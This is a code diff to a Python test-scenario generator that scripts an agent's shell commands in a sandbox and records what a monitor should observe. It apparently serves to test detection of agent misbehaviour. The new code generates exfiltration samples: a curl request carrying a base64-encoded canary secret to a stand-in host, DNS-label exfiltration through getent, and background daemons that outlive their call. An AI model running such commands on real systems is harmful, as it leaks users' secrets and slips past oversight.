@@ -6,6 +6,7 @@ one call touch the same file; daemons wait on a pipe and are let go by a later c
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import random
 import shlex
@@ -13,10 +14,13 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from typing import NamedTuple
 
+from sandbox.hosts.shell import ARGV
+
 HOME = "/home/agent"
 SECRETS = "/srv/secrets"
 TREES = (HOME, "/tmp", "/srv/app")
 SITE = "drop.quillmere.example"
+ADDRESS = "198.51.100.24"
 
 
 class Truth(NamedTuple):
@@ -30,7 +34,7 @@ class Truth(NamedTuple):
 
 @dataclass
 class Call:
-    """A command for the agent's shell, or a tool's act on `host` (`write`, `read`, `run`), and what must be told of it."""
+    """A command for the agent's shell, or a tool's act (`write`, `read`, `run`, `own`), and what must be told of it."""
 
     id: str
     command: str = ""
@@ -75,10 +79,12 @@ class Script:
             *(self._create, self._append, self._rewrite, self._copy, self._delete, self._move, self._carry, self._chmod),
             *(self._short, self._passing, self._folder, self._open, self._python, self._exit, self._quick, self._link),
             *(self._pack, self._part, self._say, self._send, self._send, self._daemon, self._daemon),
+            *(self._query, self._name_asked, self._refused),
         ]
         self._add(self._create, self._create, self._create, self._create)
         for deed in self._deeds:  # each at least once
             self._add(deed)
+        self._own()
         while sum(len(call.truths) for call in self.calls) < effects:
             self._next()
         while self._daemons:
@@ -100,7 +106,10 @@ class Script:
 
     def _tool(self) -> None:
         call, self._held = Call(f"c{len(self.calls) + 1}"), set()
-        what, path = self.rng.choice(["write", "read", "run"]), self._name()
+        what, path = self.rng.choice(["write", "read", "run", "own"]), self._name()
+        if what == "own":
+            self._own()
+            return
         if what == "write":
             call.tool = ("write", path, text := self._text())
             self._holds(call, "created", path, text.encode())
@@ -116,6 +125,14 @@ class Script:
             self._short_truths(call, path, "peer")
             call.truths.append(Truth("file created", f"peer:{path}.kept", call.id, _sha(b"y")))
         self.calls.append(call)
+
+    def _own(self) -> None:
+        call, self._held = Call(f"c{len(self.calls) + 1}"), set()
+        if (path := self._old()) is not None:
+            self._made += 1
+            call.tool = ("own", path, f"{2000 + self._made}")
+            self._tell(call, "owner changed", f"agent:{path}:{2000 + self._made}")
+            self.calls.append(call)
 
     def _tell(self, call: Call, kind: str, key: str) -> None:
         call.truths.append(Truth(kind, key, call.id))
@@ -340,9 +357,39 @@ class Script:
         ]
         for argv in way:
             self._process(call, argv)
+        self._tell(call, "connected", f"agent:{ADDRESS}:80")
         self._tell(call, "request", f"agent:/up/{self._made}")
         self._tell(call, "canary in request", f"{name} agent:/up/{self._made}")
         return " | ".join(shlex.join(argv) for argv in way)
+
+    def _query(self, call: Call) -> str:
+        """A part of a text in the address that is asked for, and so in an argument as well."""
+        self._made += 1
+        part = base64.urlsafe_b64encode(canaries(0)["letter"][:150]).decode()
+        path = f"/up/{self._made}?d={part}"
+        argv = ["curl", "-s", "-o", "/dev/null", f"http://{SITE}{path}"]
+        self._process(call, argv)
+        self._tell(call, "canary in arguments", "letter agent:/usr/bin/curl")
+        self._tell(call, "connected", f"agent:{ADDRESS}:80")
+        self._tell(call, "request", f"agent:{path}")
+        self._tell(call, "canary in request", f"letter agent:{path}")
+        return shlex.join(argv)
+
+    def _name_asked(self, call: Call) -> str:
+        """A part of a text in the labels of a name, none of which says enough by itself."""
+        self._made += 1
+        part = canaries(0)["letter"][self._made : self._made + 72].hex()
+        name = f"{part[:48]}.{part[48:96]}.{part[96:]}.{SITE}"
+        argv = ["getent", "ahostsv4", name]
+        self._process(call, argv, 2)
+        self._tell(call, "canary in request", f"letter agent:{name}")
+        return shlex.join(argv)
+
+    def _refused(self, call: Call) -> str:
+        argv = ["curl", "-s", f"http://{ADDRESS}:81/"]
+        self._process(call, argv, 7)
+        self._tell(call, "refused", f"agent:{ADDRESS}:81")
+        return shlex.join(argv)
 
     def _link(self, call: Call) -> str:
         path = self._name()
@@ -356,9 +403,10 @@ class Script:
         if len(self._daemons) >= 3:
             return ""
         self._made += 1
-        number, pipe = self._made, f"/tmp/go{self._made}"
+        number, pipe, there = self._made, f"/tmp/go{self._made}", f"/tmp/there{self._made}"
         self._tell(call, "file created", f"agent:{pipe}")
-        self._process(call, ["mkfifo", pipe])
+        self._tell(call, "file created", f"agent:{there}")
+        self._process(call, ["mkfifo", pipe, there])
         late, gone = f"{HOME}/late{number}", f"/tmp/gone{number}"
         truths = [
             Truth("file created", f"agent:{late}", call.id, _sha(b"late")),
@@ -377,10 +425,12 @@ class Script:
             Truth("process started", f"agent:{curl}", call.id),
             Truth("process exited", f"agent:{curl}:0", call.id),
             Truth("file opened", f"agent:{SECRETS}/letter", call.id),
+            Truth("connected", f"agent:{ADDRESS}:80", call.id),
             Truth("request", f"agent:/up/late{number}", call.id),
             Truth("canary in request", f"letter agent:/up/late{number}", call.id),
         ]
         acts = (
+            f"echo > {there}",
             f"read -r x < {pipe}",
             f"printf late > {late}",
             f"printf x > {gone}",
@@ -394,11 +444,13 @@ class Script:
             self._tell(call, "process started", f"agent:{argv}")
             self._tell(call, "process started", f"agent:{argv[1:]}")
             truths.append(Truth("process exited", f"agent:{argv[1:]}:0", call.id))
+            self._tell(call, "process outlived", f"agent:{argv[1:]}")
             started = f"{shlex.join(argv)} >/dev/null 2>&1 & d{number}=$!"
         else:
+            self._tell(call, "process outlived", f"agent:{list(ARGV)}")
             started = f"({body}) >/dev/null 2>&1 & d{number}=$!"
         self._daemons.append((number, call.id, truths))
-        return f"mkfifo {pipe}; {started}"
+        return f"mkfifo {pipe} {there}; {started}; read -r x < {there}"
 
     def _release(self, call: Call) -> str:
         number, _, truths = self._daemons.pop(0)
